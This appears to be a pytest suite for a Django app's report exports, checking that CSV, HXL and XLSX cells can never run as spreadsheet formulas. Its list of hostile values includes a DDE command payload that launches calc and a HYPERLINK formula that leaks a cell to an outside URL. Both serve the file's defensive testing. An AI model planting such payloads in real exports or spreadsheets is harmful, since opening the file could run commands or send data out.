"""No exported text cell can run as a formula, in any format, in any locale.

Each value is written through every format (CSV, HXL, XLSX) and read back with the
csv module and openpyxl. A cell "could run as a formula" when, split on any
character a locale's CSV import may split fields on, raw or after NFKC, a piece
starts (past spaces and invisible characters) with =, +, - or @, or with a CR.
"""

import csv
import io
import re
import unicodedata
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from inventory.services import restock
from inventory.tests.factories import AidPackageFactory
from reports.exports import Column, export_response

HOSTILE = [
    "=1+1",
    "+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    " =1",
    "\u200b=1",  # zero-width space first
    "Kit;=1+1;",
    "Kit,=1+1",
    "Kit|=1+1",
    "Kit\t=1+1",
    "Kit\n=1+1",  # a reader that ignores CSV quoting splits the row there
    "Kit; =1+1",
    "＝1+1",  # full-width equals sign
    "＋1",
    "－1",
    "＠SUM(A1)",
    "Kit；＝1+1",  # full-width semicolon
    "|cmd",
    '=HYPERLINK("https://example.org/?leak="&A1, "Click")',
    "=cmd|' /C calc'!A0",  # DDE
    "Food basket,=cmd|' /C calc'!A0",
]
HARMLESS = ["Food basket", "Rice 5-kg", "a-b", "e-mail", "Müller", "2025-01", "50% off", ""]
NUMBERS = [-5, 0, 7, Decimal("-12.50"), Decimal("3.10"), -1.5]
FORMATS = ["csv", "hxl", "xlsx"]

SEPARATORS = re.compile(r"[,;\t|\r\n]")
TRIGGERS = "=+-@"


def could_run_as_formula(text):
    for form in (text, unicodedata.normalize("NFKC", text)):
        for piece in SEPARATORS.split(form):
            first = next((char for char in piece if not _blank(char)), "")
            if first and first in TRIGGERS:
                return True
    return False


def _blank(char):
    return char.isspace() or unicodedata.category(char) in ("Cc", "Cf")


def test_the_checker_sees_every_hostile_value_as_a_formula():
    assert all(could_run_as_formula(value) for value in HOSTILE if value != "|cmd")
    assert not any(could_run_as_formula(value) for value in HARMLESS)


COLUMNS = (Column("value", "Value", "#value"),)


def export(export_format, values):
    response = export_response(
        export_format, COLUMNS, [{"value": v} for v in values], filename="test", title="Test"
    )
    if export_format == "xlsx":
        sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
        return [row[0] for row in sheet.iter_rows(min_row=2)]
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8"), newline="")))
    return [row[0] for row in rows[2 if export_format == "hxl" else 1 :]]


@pytest.mark.parametrize("export_format", ["csv", "hxl"])
@pytest.mark.parametrize("value", HOSTILE)
def test_csv_cells_never_read_as_a_formula(export_format, value):
    (cell,) = export(export_format, [value])
    assert not could_run_as_formula(cell), repr(cell)
    assert cell.replace("'", "") == value.replace("'", "")  # only quotes added


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        (" =1", "' =1"),
        ("Kit;=1+1;", "Kit;'=1+1;"),
        ("Kit,=1+1", "Kit,'=1+1"),
        ("＝1+1", "'＝1+1"),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ],
)
def test_csv_quotes_the_piece_that_would_start_a_formula(value, written):
    assert export("csv", [value]) == [written]


@pytest.mark.parametrize("value", HOSTILE)
def test_xlsx_text_cells_are_text_never_formulas(value):
    (cell,) = export("xlsx", [value])
    assert cell.data_type == "s"
    assert cell.value == value.replace("\r", "\n")  # kept as typed (XML reads CR as LF)


@pytest.mark.parametrize("value", ["=1+1", " =1", "＝1+1", "@SUM(A1)"])
def test_xlsx_marks_a_cell_starting_like_a_formula_as_text(value):
    (cell,) = export("xlsx", [value])
    assert cell.quotePrefix


@pytest.mark.parametrize("export_format", FORMATS)
def test_harmless_text_is_unchanged(export_format):
    cells = export(export_format, HARMLESS)
    values = [cell.value if export_format == "xlsx" else cell for cell in cells]
    expected = [None if text == "" and export_format == "xlsx" else text for text in HARMLESS]
    assert values == expected
    if export_format == "xlsx":
        assert not any(cell.quotePrefix for cell in cells)


@pytest.mark.parametrize("export_format", FORMATS)
def test_numbers_stay_numbers_negative_ones_included(export_format):
    cells = export(export_format, NUMBERS)
    if export_format == "xlsx":
        assert [cell.data_type for cell in cells] == ["n"] * len(NUMBERS)
        assert [cell.value for cell in cells] == [float(n) for n in NUMBERS]
    else:
        assert cells == ["-5", "0", "7", "-12.50", "3.10", "-1.5"]


def test_xlsx_survives_characters_xml_cannot_carry():
    (cell,) = export("xlsx", ["Kit\x01\x1f"])
    assert cell.value == "Kit\ufffd\ufffd"


# ------------------------------------------------------------ through a report's URL


@pytest.mark.django_db
@pytest.mark.parametrize("export_format", FORMATS)
def test_a_package_named_like_a_formula_exports_as_text(client, admin_staff, center, export_format):
    package = AidPackageFactory(package_name="Kit;=1+1;")
    restock(center=center, package=package, quantity=5, staff=admin_staff)
    client.force_login(admin_staff.user)
    response = client.get(reverse("reports:stock"), {"format": export_format})
    assert response.status_code == 200
    if export_format == "xlsx":
        sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
        cells = [cell for row in sheet.iter_rows() for cell in row]
        assert {cell.data_type for cell in cells} <= {"s", "n", "d"}
        assert [c.value for c in cells if c.value == "Kit;=1+1;" and c.data_type == "s"]
        return
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8"), newline="")))
    assert [cell for row in rows for cell in row if could_run_as_formula(cell)] == []
    assert "Kit;'=1+1;" in {cell for row in rows for cell in row}
